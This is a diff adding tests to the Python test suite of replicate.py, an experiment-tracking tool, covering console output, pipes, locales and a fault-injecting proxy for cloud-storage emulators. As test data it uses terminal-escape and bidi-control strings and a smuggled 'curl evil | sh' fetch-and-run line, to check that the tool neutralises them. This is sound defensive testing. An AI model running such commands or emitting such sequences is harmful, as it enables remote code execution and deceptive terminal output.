@@ -6,20 +6,31 @@ from __future__ import annotations
 
 import contextlib
 import datetime
+import email.utils
 import gzip
+import hashlib
+import http.client
+import http.server
 import io
 import json
 import math
 import os
+import queue
+import random
 import re
 import shutil
 import signal
+import socket
+import struct
 import subprocess
 import sys
 import tarfile
 import textwrap
 import threading
 import time
+import urllib.parse
+import uuid
+import xml.sax.saxutils
 import zlib
 from pathlib import Path
 
@@ -150,6 +161,260 @@ def tree(directory):
     """{relative path: content} of all files below a directory."""
     return {str(path.relative_to(directory)): path.read_bytes() for path in sorted(Path(directory).rglob("*"))
             if path.is_file() and not path.is_symlink()}
+
+
+# ------------------------------------------------------------------------------------------------------------------
+# 1  Errors and the console
+# ------------------------------------------------------------------------------------------------------------------
+
+# What steers a terminal, reorders or hides text, or cannot be encoded; as a repository's documents may hold it.
+HOSTILE = "\x1b[31m\x1b]0;pwned\x07|\x9b2J|\r\n|\x08\x7f|\u202egnp|\u200b\u2066|\u2028|\ud800|\U000e0041|é日"
+STEERING = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff"
+                      "\ud800-\udfff\U000e0000-\U000e0fff]")
+A, B = hex_id("1e"), hex_id("2e")  # experiments
+C, D = hex_id("1c"), hex_id("2c")  # checkpoints
+
+
+class Terminal:
+    """replicate.py (or another program) on a real pseudo-terminal, which is its controlling one."""
+
+    def __init__(self, *arguments, program=(sys.executable, str(PROGRAM)), cwd=None, env=None, stdin=None, stdout=None):
+        import fcntl
+        import pty
+        import termios
+        self.master, slave = pty.openpty()
+
+        def take_terminal():
+            os.setsid()
+            fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
+        self.process = subprocess.Popen([*map(str, program), *map(str, arguments)], cwd=cwd, preexec_fn=take_terminal,
+                                        env=dict(os.environ, TERM="xterm", **(env or {})),
+                                        stdin=slave if stdin is None else stdin,
+                                        stdout=slave if stdout is None else stdout, stderr=slave)
+        os.close(slave)
+        self.output = ""
+
+    def _read(self):
+        try:
+            piece = os.read(self.master, 65536)
+        except OSError:  # Linux says EIO when the last process has closed it
+            piece = b""
+        self.output += piece.decode("utf-8", "replace")
+        return piece
+
+    def expect(self, text):
+        """Wait until text was printed."""
+        while text not in self.output:
+            assert self._read(), "%r was not printed, but: %s" % (text, self.output)
+        return self
+
+    def send(self, text):
+        os.write(self.master, text.encode())
+        return self
+
+    def wait(self):
+        """The exit code, after everything is read."""
+        while self._read():
+            pass
+        os.close(self.master)
+        return self.process.wait(60)
+
+
+def snapshot(directory):
+    """All that is below a directory: {relative path: content, link target or 'directory'}."""
+    return {str(path.relative_to(directory)): ("link", os.readlink(path)) if path.is_symlink()
+            else path.read_bytes() if path.is_file() else "directory" for path in sorted(Path(directory).rglob("*"))}
+
+
+def test_messages_go_to_stderr_with_the_prefix(project):
+    done = run("show", "abc")
+    assert (done.returncode, done.stdout) == (1, "")
+    assert done.stderr.startswith("═══╡ ") and done.stderr.count("\n") == 1 and "abc" in done.stderr
+
+
+def test_continuation_lines_have_their_own_prefix(project):
+    write_repository(project / "repo", experiment_document(A))
+    message = run("rm", A, "--verbose").stderr
+    terminal = Terminal("rm", A, env={"NO_COLOR": "1"}).expect("(y/N)").send("n\n")
+    assert terminal.wait() == 1 and "═══╡ You are about" in terminal.output and "\r\n   │ * Experiment" in terminal.output
+    assert "═══╡ " in message
+
+
+def test_an_error_is_one_clear_message_and_a_traceback_only_with_verbose(project):
+    (project / "repo").mkdir()
+    (project / "repo/repository.json").write_text("{")
+    for flags in ([], ["-v"]):
+        done = run(*flags, "ls")
+        assert done.returncode == 1 and done.stdout == ""
+        assert ("Traceback" in done.stderr) == bool(flags)
+        assert "repository.json" in done.stderr
+
+
+def test_an_unexpected_failure_is_one_line_too(project):
+    source = ("import replicate, sys\n"
+              "def broken(self): raise ZeroDivisionError('a bug')\n"
+              "replicate.Repository.summaries = broken\n"
+              "sys.exit(replicate.main(sys.argv[1:]))")
+    write_repository(project / "repo", experiment_document(A))
+    plain, verbose = run_script(source, "ls", check=False), run_script(source, "ls", "-v", check=False)
+    assert plain.returncode == verbose.returncode == 1
+    assert plain.stderr.count("\n") == 1 and "a bug" in plain.stderr and "-v" in plain.stderr
+    assert "Traceback" in verbose.stderr and "ZeroDivisionError" in verbose.stderr
+
+
+@pytest.mark.parametrize("wanted, flags, env", [
+    (True, [], {}), (True, ["--color"], {}), (True, ["--color=true"], {}),
+    (False, ["--color=false"], {}), (False, ["--no-color"], {}), (False, [], {"NO_COLOR": "1"})])
+def test_colours_on_a_terminal(project, wanted, flags, env):
+    write_repository(project / "repo", experiment_document(A, params={"lr": 1}))
+    for arguments in ([*flags, "show", A], ["show", A, *flags]):
+        terminal = Terminal(*arguments, env=env)
+        assert terminal.wait() == 0, terminal.output
+        assert ("\x1b[" in terminal.output) == wanted
+        assert "lr:" in terminal.output
+    assert "\x1b" not in run(*flags, "show", A).stdout
+
+
+def test_stdout_in_a_pipe_has_no_colours_while_stderr_is_a_terminal(project):
+    write_repository(project / "repo", experiment_document(A, checkpoints=[checkpoint_document(C)]))
+    terminal = Terminal("show", A, stdout=subprocess.PIPE)
+    out = terminal.process.stdout.read().decode()
+    assert terminal.wait() == 0 and "\x1b" not in out and "Experiment: " + A in out and "\x1b[" in terminal.output
+
+
+def test_a_closed_pipe_is_no_error(project):
+    write_repository(project / "repo", *(experiment_document("%064x" % number, params={"text%d" % i: "x" * 50 for i in range(9)})
+                                         for number in range(1500)))
+    process = subprocess.Popen([sys.executable, str(PROGRAM), "ls", "--json"], stdout=subprocess.PIPE,
+                               stderr=subprocess.PIPE)
+    assert process.stdout.readline() == b"[\n"
+    process.stdout.close()
+    assert process.stderr.read() == b""
+    assert process.wait(60) == 0
+
+
+@pytest.mark.parametrize("arguments", [["ls"], ["ls", "--json"], ["ls", "-q"], ["show", A], ["--help"], ["--version"], ["help", "ls"]],
+                         ids=" ".join)
+def test_a_pipe_that_nobody_reads_is_no_error(project, arguments):
+    two_experiments(project)
+    reading, writing = os.pipe()
+    os.close(reading)
+    done = subprocess.run([sys.executable, str(PROGRAM), *arguments], stdout=writing, stderr=subprocess.PIPE)
+    os.close(writing)
+    assert (done.returncode, done.stderr) == (0, b"")
+
+
+def test_a_closed_stdout_or_stderr_is_no_error(project):
+    write_repository(project / "repo", experiment_document(A))
+    for redirection in (">&-", "2>&-", ">&- 2>&-", "<&-"):
+        done = subprocess.run("%s %s ls %s" % (sys.executable, PROGRAM, redirection), shell=True, capture_output=True)
+        assert (done.returncode, done.stderr) == (0, b""), redirection
+
+
+@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
+def test_a_full_disk_under_stdout_is_an_error_without_a_traceback(project):
+    write_repository(project / "repo", experiment_document(A))
+    done = subprocess.run("%s %s ls > /dev/full" % (sys.executable, PROGRAM), shell=True, capture_output=True, text=True)
+    assert done.returncode == 1 and "No space left" in done.stderr
+    assert "Traceback" not in done.stderr and "Exception ignored" not in done.stderr
+
+
+def test_progress_is_shown_on_a_terminal_and_not_in_a_pipe(project):
+    (project / "big.bin").write_bytes(os.urandom(3_000_000))
+    run_script("import replicate\nwith replicate.init(path='big.bin', quiet=True): pass")
+    item = stored_documents(project / "repo")[0]["id"]
+    impatient = (sys.executable, "-c", "import sys, replicate; replicate.Progress.DELAY = replicate.Progress.INTERVAL = 0\n"
+                 "sys.exit(replicate.main(sys.argv[1:]))")
+    terminal = Terminal("checkout", item, "-o", "one", program=impatient)
+    assert terminal.wait() == 0
+    assert "Checking out: " in terminal.output and "3.0 MB" in terminal.output and "\r\x1b[K" in terminal.output
+    piped = subprocess.run([*impatient, "checkout", item, "-o", "two"], capture_output=True, text=True)
+    assert piped.returncode == 0 and "Checking out: " not in piped.stderr and "\r" not in piped.stderr
+    assert tree(project / "one") == tree(project / "two") == {"big.bin": (project / "big.bin").read_bytes()}
+
+
+def hostile_repository(root):
+    """A repository whose every text is hostile."""
+    checkpoints = [checkpoint_document(hex_id("3c"), step=1, path=HOSTILE, primary=(HOSTILE, "minimize"),
+                                       metrics={HOSTILE: 1.5, "note" + HOSTILE: HOSTILE})]
+    write_repository(root, *(experiment_document(
+        item, params={"a" + HOSTILE: HOSTILE + item[:2], "b": [HOSTILE], "c": {HOSTILE: HOSTILE}}, host=HOSTILE + item[:1],
+        user=HOSTILE + item[:1], command="train.py " + HOSTILE, path=HOSTILE, python_version=HOSTILE + item[:1],
+        python_packages={HOSTILE: HOSTILE + item[:1]}, config={"repository": HOSTILE, "storage": HOSTILE},
+        checkpoints=[dict(checkpoint, id=checkpoint["id"][:-2] + item[:2]) for checkpoint in checkpoints])
+        for item in (A, B)))
+    write_archive(Path(root) / "experiments" / (A + ".tar.gz"), A, {"train.py": b"1"})
+    write_archive(Path(root) / "checkpoints" / (hex_id("3c")[:-2] + "1e.tar.gz"), hex_id("3c")[:-2] + "1e", {"model": b"2"})
+
+
+HOSTILE_COMMANDS = [
+    ["ls"], ["ls", "--all"], ["ls", "--json"], ["ps"], ["show", A], ["show", A, "--json"], ["show", hex_id("3c")[:-2] + "1e"],
+    ["diff", A, B], ["checkout", A, "-o", "out"], ["checkout", A, "--path", "modle", "-o", "out"], ["rm", A], ["rm", "-f", A],
+    ["ls", "-f", "nmae = 1"], ["ls", "-f", "nmae" + HOSTILE.replace("\ud800", "") + " = 1"], ["ls", "--sort", "note\x1b[31m"],
+    ["show", "a\x1b[31m\u202e"], ["\x1b[31m"], ["ls", "--\x1b[31m"], ["-R", "file:///no\x1b[31m\nthing", "ls"]]
+
+
+@pytest.mark.parametrize("arguments", HOSTILE_COMMANDS, ids=lambda arguments: repr(arguments)[:40])
+def test_hostile_text_never_reaches_a_terminal_raw(project, arguments):
+    hostile_repository(project / "repo")
+    done = run(*arguments)
+    for text in (done.stdout, done.stderr):
+        assert not STEERING.search(text), repr(text)
+    assert done.stdout or done.stderr
+    assert done.returncode in (0, 1, 2) and "Traceback" not in done.stderr and "unexpected" not in done.stderr
+
+
+def test_hostile_text_is_shown_escaped(project):
+    hostile_repository(project / "repo")
+    assert "\\x1b[31m" in run("show", A).stdout and "\\u202e" in run("show", A).stdout
+    listed = json.loads(run("ls", "--json").stdout)
+    assert listed[0]["params"]["b"] == [HOSTILE] and listed[0]["host"] == HOSTILE + "1"
+
+
+def test_a_newline_from_a_repository_starts_no_line_of_a_message(project):
+    write_repository(project / "repo", experiment_document(A, command="train.py\ncurl evil | sh", path="."))
+    write_archive(project / "repo/experiments" / (A + ".tar.gz"), A, {"x\ncurl evil | sh": b"1"})
+    (project / "x\ncurl evil | sh").write_bytes(b"2")
+    (project / "repo/metadata/experiments/a\ncurl evil | sh").write_text("{")
+    for arguments in (["checkout", A], ["checkout", A, "-o", "out"], ["ls"], ["checkout", A, "--path", "x", "-o", "new"]):
+        done = run(*arguments)
+        assert not re.search(r"(?m)^(   │ )?\s*curl", done.stderr), done.stderr
+
+
+ASCII = [{"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}, {"PYTHONIOENCODING": "ascii"},
+         {"PYTHONIOENCODING": "latin-1"}]
+
+
+@pytest.mark.parametrize("env", ASCII, ids=["C", "ascii", "latin-1"])
+@pytest.mark.parametrize("arguments", HOSTILE_COMMANDS[:15], ids=lambda arguments: repr(arguments)[:40])
+def test_an_ascii_locale_is_no_error(project, env, arguments):
+    hostile_repository(project / "repo")
+    arguments = [argument.encode("ascii", "ignore").decode() for argument in arguments]
+    plain = run(*arguments) if "rm" not in arguments and "checkout" not in arguments else None
+    done = run(*arguments, env=env)
+    assert done.stdout or done.stderr
+    assert "UnicodeEncodeError" not in done.stderr and "Traceback" not in done.stderr and "unexpected" not in done.stderr
+    assert not STEERING.search(re.sub("[\udca0-\udcff]", "é", done.stdout + done.stderr))  # the letters of latin-1
+    assert not plain or (done.returncode, done.stdout.count("\n")) == (plain.returncode, plain.stdout.count("\n"))
+    assert not plain or done.stderr.count("\n") == plain.stderr.count("\n")
+
+
+@pytest.mark.parametrize("env", ASCII, ids=["C", "ascii", "latin-1"])
+def test_the_prefix_of_messages_has_an_ascii_form(project, env):
+    write_repository(project / "repo", experiment_document(A))
+    assert run("show", "zz", env=env).stderr.startswith("===| ")
+    write_repository(project / "repo", experiment_document(A, checkpoints=[checkpoint_document(C)]))
+    assert "\n   | " in run("show", A, env=env).stderr
+
+
+@pytest.mark.parametrize("env", ASCII, ids=["C", "ascii", "latin-1"])
+def test_json_stays_json_in_every_locale(project, env):
+    params = {"näme": "日本 \U0001f600 é \u20ac"}
+    write_repository(project / "repo", experiment_document(A, params=params))
+    for arguments in (["ls", "--json"], ["show", A, "--json"]):
+        done = subprocess.run([sys.executable, str(PROGRAM), *arguments], env=dict(os.environ, **env), stdout=subprocess.PIPE)
+        document = json.loads(done.stdout.decode("latin-1" if "latin-1" in env.values() else "ascii"))
+        assert (document[0] if "ls" in arguments else document)["params"] == params
 
 
 # ------------------------------------------------------------------------------------------------------------------
@@ -1196,6 +1461,2093 @@ def test_prepare_removes_only_what_is_old_in_tmp(tmp_path):
     os.utime(storage.path("tmp/old"), (time.time() - 2 * 86400,) * 2)
     storage.prepare()
     assert list(tree(storage.root)) == ["tmp/new"]
+
+
+# ------------------------------------------------------------------------------------------------------------------
+# 5b  Cloud storage, sending
+# ------------------------------------------------------------------------------------------------------------------
+
+
+CLOUD_KEYS = {"AWS_ACCESS_KEY_ID": "test", "AWS_SECRET_ACCESS_KEY": "test", "AWS_DEFAULT_REGION": "us-east-1",
+              "AWS_EC2_METADATA_DISABLED": "true", "GOOGLE_CLOUD_PROJECT": "test"}
+PEER_DIRECTORY = os.environ.get("REPLICATE_PEER")  # before the fixture `sealed` hides it
+
+
+class WireRequest:
+    """One HTTP request as the proxy saw it: what kind of operation, of which key."""
+
+    def __init__(self, method, target, headers, body):
+        self.method, self.target, self.headers, self.body = method, target, headers, body
+        parts = urllib.parse.urlsplit(target)
+        self.path = urllib.parse.unquote(parts.path)
+        self.query = dict(urllib.parse.parse_qsl(parts.query, keep_blank_values=True))
+        self.range = headers.get("Range")
+        self.status, self.served = None, 0
+        self.is_gcs = bool(re.match(r"/(upload/|download/)?storage/v1/|/resumable/", self.path))
+        self.bucket, self.key, self.kind = self._gcs() if self.is_gcs else self._s3()
+
+    def _s3(self):
+        bucket, _, key = self.path.lstrip("/").partition("/")
+        query, method = self.query, self.method
+        if not key:
+            if method == "POST" and "delete" in query:
+                return bucket, "", "DELETE"
+            return bucket, "", {"GET": "LIST", "HEAD": "BUCKET", "PUT": "CREATE"}.get(method, method)
+        if "uploads" in query:
+            return bucket, key, "START"
+        if "uploadId" in query:
+            return bucket, key, {"PUT": "PART", "POST": "COMPLETE", "DELETE": "ABORT"}.get(method, method)
+        return bucket, key, method
+
+    def _gcs(self):
+        found = re.match(r"/(?:upload/|download/)?storage/v1/b(?:/([^/]+))?(?:/o)?(?:/(.+))?$", self.path)
+        bucket, key = (found.group(1) or "", found.group(2) or "") if found else ("", "")
+        if self.method in ("POST", "PUT") and ("uploadType" in self.query or "upload_id" in self.query):
+            if "upload_id" in self.query:
+                return bucket, self.query.get("name", ""), "PART"
+            named = re.search(rb'"name": ?"([^"]*)"', self.body[:4096])
+            key = self.query.get("name") or (named.group(1).decode() if named else "")
+            return bucket, key, "START" if self.query["uploadType"] == "resumable" else "PUT"
+        if not key:
+            if self.path.endswith("/o"):
+                return bucket, "", "LIST"
+            return bucket, "", "CREATE" if self.method == "POST" else "BUCKET"
+        if self.method == "GET":
+            return bucket, key, "GET" if self.query.get("alt") == "media" else "HEAD"
+        return bucket, key, self.method
+
+    def __repr__(self):
+        return "%s %s %s" % (self.kind, self.key or self.bucket, self.range or "")
+
+
+class WireCut(Exception):
+    """The proxy drops the connection."""
+
+
+class WireProxy:
+    """An HTTP proxy before a storage server: it counts, enforces GCS's preconditions and pages, and breaks things.
+
+    rule(request) answers None (pass it on), (status, headers, body), "reset", "lost" (done, but the answer is not sent),
+    "stall" (until release()), or a number: reset after so many bytes of the answer's body.
+    after(request, status, headers, body) is called before an answer is sent.
+    """
+
+    def __init__(self, upstream):
+        self.upstream = upstream
+        self.requests = []
+        self.rule = lambda request: None
+        self.after = lambda request, status, headers, body: None
+        self.shift = 0.0      # seconds that the store's clock is ahead
+        self.sink = False     # whether large bodies are read and thrown away, as if they were stored
+        self.source = None    # (key, path of a local file), served without the store
+        self.port = 0
+        self._lock = threading.RLock()
+        self._sockets = set()
+        self._released = threading.Event()
+        self.server = None
+        self.up()
+
+    @property
+    def address(self):
+        return "http://127.0.0.1:%d" % self.port
+
+    def up(self):
+        proxy = self
+
+        class Server(http.server.ThreadingHTTPServer):
+            allow_reuse_address = True
+            daemon_threads = True
+            request_queue_size = 128
+
+            def handle_error(self, request, client_address):
+                pass
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            protocol_version = "HTTP/1.1"
+            disable_nagle_algorithm = True
+            wbufsize = 1 << 16
+
+            def setup(self):
+                super().setup()
+                proxy._sockets.add(self.connection)
+
+            def finish(self):
+                proxy._sockets.discard(self.connection)
+                super().finish()
+
+            def log_message(self, *arguments):
+                pass
+
+            def handle_expect_100(self):
+                super().handle_expect_100()
+                self.wfile.flush()
+                return True
+
+            def do_any(self):
+                proxy.handle(self)
+
+            do_GET = do_PUT = do_POST = do_DELETE = do_HEAD = do_PATCH = do_any
+
+        self.server = Server(("127.0.0.1", self.port), Handler)
+        self.port = self.server.server_address[1]
+        threading.Thread(target=self.server.serve_forever, args=(0.01,), daemon=True).start()
+
+    def down(self):
+        """Take it away: nothing listens any more, open connections are reset."""
+        if self.server:
+            self.server.shutdown()
+            self.server.server_close()
+            self.server = None
+        for connection in list(self._sockets):
+            with contextlib.suppress(OSError):
+                connection.shutdown(socket.SHUT_RDWR)
+
+    def release(self):
+        """Let stalled requests go, into a reset."""
+        self._released.set()
+
+    def close(self):
+        self.release()
+        self.down()
+
+    # -- what tests ask
+
+    def clear(self):
+        del self.requests[:]
+
+    def count(self, kind=None, prefix=""):
+        """How many requests; of all kinds, without the SDK's own look at the bucket."""
+        return len([request for request in self.seen(kind, prefix) if kind or request.kind != "BUCKET"])
+
+    def seen(self, kind=None, prefix=""):
+        return [request for request in list(self.requests)
+                if (kind is None or request.kind == kind) and prefix in request.key]
+
+    # -- work
+
+    def handle(self, handler):
+        length = int(handler.headers.get("Content-Length") or 0)
+        if handler.headers.get("Transfer-Encoding", "").lower() == "chunked":
+            body = b""
+            while True:
+                size = int(handler.rfile.readline().split(b";")[0], 16)
+                body += handler.rfile.read(size)
+                handler.rfile.readline()
+                if not size:
+                    break
+        elif self.sink and length > 1 << 20:
+            body, left = b"", length
+            while left:
+                left -= len(handler.rfile.read(min(left, 1 << 18)))
+        else:
+            body = handler.rfile.read(length)
+        target = "/storage/v1" + handler.path if handler.path.startswith("/b/") else handler.path  # the peer leaves it out
+        request = WireRequest(handler.command, target, handler.headers, body)
+        with self._lock:
+            self.requests.append(request)
+            action = self.rule(request)
+        try:
+            if action == "stall":
+                self._released.wait(120)
+                raise WireCut
+            if action == "reset":
+                raise WireCut
+            if isinstance(action, tuple):
+                status, headers, body = action
+            elif self.source and request.kind in ("GET", "HEAD") and request.key == self.source[0]:
+                self._serve(handler, request)
+                return
+            else:
+                status, headers, body = self.answer(request)
+            self.after(request, status, headers, body)
+            if action == "lost":
+                raise WireCut
+            request.status = status
+            self._send(handler, request, status, headers, body, action if isinstance(action, int) else None)
+            request.body = request.body[:1 << 16]  # of the rest nobody asks
+        except WireCut:
+            self._reset(handler)
+
+    def _reset(self, handler):
+        handler.close_connection = True
+        handler.wfile.flush()
+        self._sockets.discard(handler.connection)
+        handler.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+        os.close(handler.connection.detach())
+
+    def _send(self, handler, request, status, headers, body, cut):
+        handler.send_response_only(status)
+        for name, value in headers.items():
+            if name.lower() not in ("date", "connection", "transfer-encoding", "content-length", "last-modified"):
+                handler.send_header(name, value)
+        moment = time.time() + self.shift
+        handler.send_header("Date", email.utils.formatdate(moment, usegmt=True))
+        lower = {name.lower(): value for name, value in headers.items()}
+        modified = lower.get("last-modified")
+        if modified:
+            moment = email.utils.parsedate_to_datetime(modified).timestamp() + self.shift
+            handler.send_header("Last-Modified", email.utils.formatdate(moment, usegmt=True))
+        length = lower.get("content-length", "0") if request.method == "HEAD" else len(body)
+        if status != 204:
+            handler.send_header("Content-Length", str(length))
+        handler.end_headers()
+        if request.method != "HEAD":
+            if cut is not None and cut < len(body):
+                handler.wfile.write(body[:cut])
+                request.served = cut
+                handler.wfile.flush()
+                time.sleep(0.05)  # a reset throws away what the other side has not read yet
+                raise WireCut
+            handler.wfile.write(body)
+            request.served = len(body)
+
+    def _serve(self, handler, request):
+        """The local file of `source`, or a range of it, without holding it."""
+        size = os.path.getsize(self.source[1])
+        start, end = 0, size
+        if request.range:
+            first, _, last = request.range[len("bytes="):].partition("-")
+            start, end = int(first), min(size, int(last) + 1 if last else size)
+        handler.send_response_only(206 if request.range else 200)
+        if request.range:
+            handler.send_header("Content-Range", "bytes %d-%d/%d" % (start, end - 1, size))
+        handler.send_header("Content-Length", str(end - start))
+        handler.send_header("ETag", '"%032x"' % size)
+        handler.send_header("Last-Modified", email.utils.formatdate(0, usegmt=True))
+        handler.end_headers()
+        if request.method == "HEAD":
+            return
+        with open(self.source[1], "rb") as file:
+            file.seek(start)
+            while start < end:
+                data = file.read(min(end - start, 1 << 20))
+                handler.wfile.write(data)
+                start += len(data)
+                request.served += len(data)
+
+    def answer(self, request):
+        """(status, headers, body) from the store."""
+        if self.sink and (int(request.headers.get("Content-Length") or 0) > 1 << 20 or request.kind == "COMPLETE"):
+            return self._swallowed(request)
+        if not request.is_gcs and request.kind != "PUT":
+            return self._shifted(*self.forward(request))
+        with self._lock:  # so that nothing comes between the test of a precondition and the change
+            return self._shifted(*(self._enforce if request.is_gcs else self._enforce_s3)(request))
+
+    @staticmethod
+    def _swallowed(request):
+        if request.kind == "COMPLETE":
+            return 200, {}, b"<CompleteMultipartUploadResult><ETag>x</ETag></CompleteMultipartUploadResult>"
+        found = re.match(r"bytes \d+-(\d+)/(\d+|\*)", request.headers.get("Content-Range") or "")
+        if found and int(found.group(1)) + 1 != int(found.group(2)):
+            return 308, {"Range": "bytes=0-" + found.group(1)}, b""
+        return 200, {"ETag": '"%032x"' % 1}, b'{"name": "x", "generation": "1"}' if request.is_gcs else b""
+
+    def forward(self, request, target=None):
+        connection = http.client.HTTPConnection("127.0.0.1", self.upstream, timeout=60)
+        headers = {name: value for name, value in request.headers.items()
+                   if name.lower() not in ("connection", "expect", "transfer-encoding", "content-length")}
+        headers.update({"Connection": "close"})
+        try:
+            connection.request(request.method, target or request.target, request.body or None, headers)
+            answer = connection.getresponse()
+            body = answer.read()
+        except (OSError, http.client.HTTPException):
+            raise WireCut
+        finally:
+            connection.close()
+        headers = dict(answer.getheaders())
+        if "Location" in headers:
+            headers["Location"] = re.sub(r"^http://[^/]+", self.address, headers["Location"])
+        return answer.status, headers, body
+
+    def _shifted(self, status, headers, body):
+        """The answer with the modification times of listings as the shifted clock has them."""
+        if not self.shift:
+            return status, headers, body
+
+        def later(match):
+            moment = datetime.datetime.strptime(match.group(2).decode()[:19], "%Y-%m-%dT%H:%M:%S")
+            moment += datetime.timedelta(seconds=self.shift)
+            return match.group(1) + moment.strftime("%Y-%m-%dT%H:%M:%S.000Z").encode()
+
+        body = re.sub(rb'(<LastModified>|"updated": ?")([0-9T:.-]+Z)', later, body)
+        return status, headers, body
+
+    def _enforce_s3(self, request):
+        """Conditional PUTs: an older moto has none, and a newer one lets two at once through."""
+        wanted, absent = request.headers.get("If-Match"), request.headers.get("If-None-Match")
+        if wanted or absent:
+            status, headers, _ = self.forward(WireRequest("HEAD", request.target, {
+                "Authorization": request.headers.get("Authorization", "")}, b""))
+            tag = {name.lower(): value for name, value in headers.items()}.get("etag")
+            if wanted and (status != 200 or tag.strip('"') != wanted.strip('"')) or absent and status == 200:
+                return self.s3_error(412, "PreconditionFailed", "At least one of the pre-conditions did not hold.")
+        return self.forward(request)
+
+    def _enforce(self, request):
+        """What the emulator leaves out: generation preconditions, pages, start offsets."""
+        wanted = request.query.get("ifGenerationMatch")
+        if wanted is not None and request.kind in ("GET", "HEAD", "PUT", "START", "DELETE"):
+            probe = WireRequest("GET", "/storage/v1/b/%s/o/%s" % (request.bucket, urllib.parse.quote(request.key, "")), {}, b"")
+            status, _, body = self.forward(probe)
+            current = json.loads(body)["generation"] if status == 200 else "0"
+            if current != wanted and not (current == "0" and request.kind in ("GET", "HEAD")):
+                return self.gcs_error(412, "At least one of the pre-conditions you specified did not hold.")
+        if request.kind != "LIST":
+            return self.forward(request)
+        query = {name: value for name, value in request.query.items() if name == "prefix"}
+        status, headers, body = self.forward(request, request.path + "?" + urllib.parse.urlencode(query))
+        if status != 200:
+            return status, headers, body
+        items = sorted(json.loads(body).get("items") or [], key=lambda item: item["name"])
+        items = [item for item in items if item["name"] >= request.query.get("startOffset", "")
+                 and item["name"] > request.query.get("pageToken", "")]
+        limit = min(1000, int(request.query.get("maxResults") or 1000))
+        page = {"kind": "storage#objects", "items": items[:limit]}
+        if len(items) > limit:
+            page["nextPageToken"] = items[limit - 1]["name"]
+        return 200, {"Content-Type": "application/json"}, json.dumps(page).encode()
+
+    @staticmethod
+    def gcs_error(status, message):
+        return status, {"Content-Type": "application/json"}, json.dumps(
+            {"error": {"code": status, "message": message, "errors": [{"message": message}]}}).encode()
+
+    @staticmethod
+    def s3_error(status, code, message):
+        return status, {"Content-Type": "application/xml"}, ("<Error><Code>%s</Code><Message>%s</Message></Error>" % (
+            code, message)).encode()
+
+    def refusal(self, request, status=403, code="AccessDenied", message="You may not do that"):
+        """The answer of a store that refuses, in the words of its protocol."""
+        return self.gcs_error(status, message) if request.is_gcs else self.s3_error(status, code, message)
+
+
+class Shelf(WireProxy):
+    """A store in memory that speaks enough of S3 to hold thousands of documents at no cost."""
+
+    def __init__(self):
+        self.objects = {}
+        super().__init__(None)
+
+    def store(self, key, data, age=60.0):
+        self.objects[key] = (data, hashlib.md5(data).hexdigest(), time.time() - age)
+
+    def forward(self, request, target=None):
+        with self._lock:
+            if request.kind == "LIST":
+                return 200, {"Content-Type": "application/xml"}, self._list(request.query)
+            if request.kind == "DELETE":
+                keys = re.findall(r"<Key>([^<]*)</Key>", request.body.decode()) or [request.key]
+                request.deleted = keys
+                for key in keys:
+                    self.objects.pop(key, None)
+                return 200, {}, b"<DeleteResult></DeleteResult>"
+            if request.kind == "PUT":
+                self.store(request.key, request.body, 0)
+                return 200, {"ETag": '"%s"' % self.objects[request.key][1]}, b""
+            if request.kind not in ("GET", "HEAD"):
+                return 200, {}, b""
+            if request.key not in self.objects:
+                return self.s3_error(404, "NoSuchKey", "The specified key does not exist.")
+            data, tag, modified = self.objects[request.key]
+            headers = {"ETag": '"%s"' % tag, "Last-Modified": email.utils.formatdate(modified, usegmt=True),
+                       "Content-Length": str(len(data))}
+            if (request.headers.get("If-Match") or tag).strip('"') != tag:
+                return self.s3_error(412, "PreconditionFailed", "At least one of the pre-conditions did not hold.")
+            if request.range:
+                first, last = re.fullmatch(r"bytes=(\d+)-(\d*)", request.range).groups()
+                part = data[int(first):int(last) + 1 if last else None]
+                headers["Content-Range"] = "bytes %s-%d/%d" % (first, int(first) + len(part) - 1, len(data))
+                return 206, headers, part
+            return 200, headers, data
+
+    def _list(self, query):
+        after = max(query.get("start-after", ""), query.get("continuation-token", ""))
+        names = sorted(name for name in self.objects if name.startswith(query.get("prefix", "")) and name > after)
+        limit = int(query.get("max-keys") or 1000)
+        stamp = lambda moment: datetime.datetime.utcfromtimestamp(moment).strftime("%Y-%m-%dT%H:%M:%S.000Z")  # noqa: E731
+        rows = "".join("<Contents><Key>%s</Key><LastModified>%s</LastModified><ETag>&quot;%s&quot;</ETag><Size>%d</Size></Contents>" % (
+            xml.sax.saxutils.escape(name), stamp(self.objects[name][2]), self.objects[name][1], len(self.objects[name][0]))
+            for name in names[:limit])
+        more = "<IsTruncated>%s</IsTruncated>" % ("true" if len(names) > limit else "false")
+        if len(names) > limit:
+            more += "<NextContinuationToken>%s</NextContinuationToken>" % xml.sax.saxutils.escape(names[limit - 1])
+        return ("<ListBucketResult><Name>b</Name>%s%s</ListBucketResult>" % (more, rows)).encode()
+
+
+def free_port():
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        return probe.getsockname()[1]
+
+
+def start_server(*arguments):
+    """A server as a process of its own; (process, port) once it listens."""
+    port = free_port()
+    process = subprocess.Popen([sys.executable, "-m", *[word.replace("PORT", str(port)) for word in arguments]],
+                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)
+    for _ in range(600):
+        with socket.socket() as probe:
+            if probe.connect_ex(("127.0.0.1", port)) == 0:
+                return process, port
+        if process.poll() is not None:
+            break
+        time.sleep(0.1)
+    process.kill()
+    pytest.fail("The server %s does not start" % arguments[0])
+
+
+@pytest.fixture(scope="session")
+def s3_server():
+    pytest.importorskip("boto3")
+    pytest.importorskip("moto")
+    process, port = start_server("moto.server", "-H", "127.0.0.1", "-p", "PORT")
+    yield port
+    process.kill()
+    process.wait()
+
+
+@pytest.fixture(scope="session")
+def gs_server():
+    pytest.importorskip("google.cloud.storage")
+    pytest.importorskip("gcp_storage_emulator")
+    process, port = start_server("gcp_storage_emulator", "start", "--host=127.0.0.1", "--port=PORT", "--in-memory")
+    yield port
+    process.kill()
+    process.wait()
+
+
+@pytest.fixture(scope="session")
+def s3_client(s3_server):
